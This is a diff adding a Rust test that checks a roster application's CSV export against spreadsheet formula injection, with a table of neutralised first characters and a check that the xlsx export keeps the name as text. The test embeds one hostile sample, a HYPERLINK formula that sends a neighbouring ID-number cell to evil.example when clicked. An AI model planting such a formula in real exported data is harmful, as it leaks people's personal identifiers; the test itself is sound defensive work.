@@ -626,3 +626,46 @@ fn a_zip_bomb_lying_about_its_size_is_refused_with_a_sentence_and_nothing_writte
     assert!(started.elapsed() < std::time::Duration::from_secs(5), "{:?}", started.elapsed());
     assert_eq!(counts(dir.path()), before_bomb, "nothing written");
 }
+
+#[test]
+fn a_csv_the_desk_writes_never_hands_a_spreadsheet_a_formula() {
+    let dir = tempfile::tempdir().unwrap();
+    let (mut desk, me) = fresh(dir.path());
+    // A name typed into the desk that a spreadsheet would run as a formula when the roster is
+    // opened: it leaks the next cell (an ID number) to a web server when clicked.
+    let hostile = r#"=HYPERLINK("http://evil.example/?"&C2,"上海好帮手家政服务有限公司")"#;
+    let agency = certdesk_store::Agency { name: hostile.into(), ..certdesk_testkit::desk::agency() };
+    desk.set_agency(&me, &agency).unwrap();
+    let file = dir.path().join("in.csv");
+    std::fs::write(&file, format!("{}\n张三,{},13800138000,上海市徐汇区某路1号,保洁,李四,021-64870000,2026-01-05,是\n", HEADERS.join(","), id(1))).unwrap();
+    assert_eq!(import(&mut desk, &me, &file).imported, 1);
+
+    let csv = dir.path().join("roster.csv");
+    let all = RosterFilter { statuses: vec!["all".into()], ..Default::default() };
+    assert_eq!(desk.export_roster(&csv, RosterFormat::Csv, &all).unwrap().rows, 1);
+    let text = String::from_utf8(std::fs::read(&csv).unwrap()).unwrap();
+    let quoted = |cell: &str| format!(",\"{}\",", cell.replace('"', "\"\""));
+    assert!(text.contains(&quoted(&format!("'{hostile}"))), "the cell is text a spreadsheet shows, never runs: {text}");
+    assert!(!text.contains(&quoted(hostile)), "{text}");
+    // Every cell of every csv passes through the same function: the OWASP list of first
+    // characters, and nothing else changes.
+    for (cell, shown) in [
+        ("=1+1", "'=1+1"),
+        ("+86 138", "'+86 138"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("张三", "张三"),
+        ("021-64870000", "021-64870000"),
+        ("", ""),
+    ] {
+        assert_eq!(certdesk_sheet::neutralise(cell), shown, "{cell:?}");
+    }
+    // The xlsx roster keeps the name as it is: a text cell is never a formula there.
+    let xlsx = dir.path().join("roster.xlsx");
+    desk.export_roster(&xlsx, RosterFormat::Xlsx, &all).unwrap();
+    let mut book: Xlsx<_> = calamine::open_workbook(&xlsx).unwrap();
+    let range = book.worksheet_range("持证人员名册").unwrap();
+    assert_eq!(range.rows().nth(1).unwrap()[4], Data::String(hostile.into()));
+}
